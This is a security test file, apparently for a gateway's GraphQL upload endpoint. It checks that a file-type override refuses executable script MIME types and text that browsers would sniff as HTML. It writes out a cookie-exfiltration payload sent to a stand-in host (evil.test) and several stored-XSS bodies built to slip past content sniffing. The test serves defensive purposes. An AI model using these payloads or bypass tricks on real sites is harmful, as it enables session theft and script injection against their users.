// FINDING (content): fileTypeOverride "never takes an executable or active type (… scripts)", and
// "text that starts as HTML, SVG or a script is refused whatever was declared" (docs/graphql.md).
// The type list misses most of WHATWG's JavaScript MIME type essences (text/javascript1.5,
// text/livescript, text/x-ecmascript: a browser runs them from <script src>, nosniff or not), and
// OverrideGuard's ACTIVE_TEXT misses HTML that WHATWG sniffing recognises: other start tags
// (<div>, <title>, <a>, <p>, …), a comment longer than 512 chars, and anything after 1024 bytes of leading whitespace (its window is 1 KiB, WHATWG's 1445).
import t from 'tap';
import { mintToken } from '../helpers/auth.js';
import { stack } from '../helpers/binary-stack.js';
import { signedUrlsConfig, urlKeys } from '../helpers/signed-urls.js';

const UPLOAD = `mutation Up($file: Upload!, $type: String!, $override: String) {
  uploadFile(forEntity: "Patient/123", data: $file, contentType: $type, fileTypeOverride: $override) { fileId url contentType }
}`;
type Body = { data?: { uploadFile?: { url: string; contentType: string } | null } | null; errors?: { extensions?: { code?: string } }[] };

t.test('fileTypeOverride never stores a script type or text that starts as HTML', async (t) => {
  const s = await stack(t, { graphql: { enabled: true }, signedUrls: signedUrlsConfig(urlKeys(t)) });
  const auth = {
    authorization: `Bearer ${await mintToken(s.key, { claims: { sub: 'alice', scope: 'user/*.cruds files.write files.override' } })}`,
  };
  const send = async (type: string, body: string): Promise<Body> => {
    const form = new FormData();
    form.append('operations', JSON.stringify({ query: UPLOAD, variables: { file: null, type, override: type } }));
    form.append('map', JSON.stringify({ 0: ['variables.file'] }));
    form.append('0', new Blob([Buffer.from(body)]), 'f');
    const r = await fetch(`${s.gw.url}/graphql`, { method: 'POST', headers: { ...auth, 'graphql-require-preflight': '1' }, body: form });
    return (await r.json()) as Body;
  };
  for (const type of ['text/javascript1.5', 'text/livescript', 'text/x-ecmascript']) {
    const b = await send(type, 'fetch("https://evil.test/?"+document.cookie)');
    t.equal(b.errors?.[0]?.extensions?.code, 'UNSUPPORTED_MEDIA', `${type} is a JavaScript MIME type (WHATWG): refused`);
    if (b.data?.uploadFile) {
      const served = await fetch(b.data.uploadFile.url.replace('http://gateway.test', s.gw.url));
      await served.arrayBuffer();
      t.comment(`served ${served.status} as ${served.headers.get('content-type')}`);
    }
  }
  const SCRIPT = '<script>alert(document.domain)</script>';
  for (const [body, why] of [
    [`<div>${SCRIPT}</div>`, 'a <div> start tag'],
    [`<title>x</title>${SCRIPT}`, 'a <title> start tag'],
    [`<!--${'x'.repeat(600)}-->${SCRIPT}`, 'a comment of 600 chars, then a script'],
    [`${' '.repeat(1100)}${SCRIPT}`, '1100 spaces, then a script'],
  ] as const) {
    const b = await send('text/markdown', body);
    t.equal(b.errors?.[0]?.extensions?.code, 'UNSUPPORTED_MEDIA', `text that starts as HTML is refused: ${why}`);
  }
});
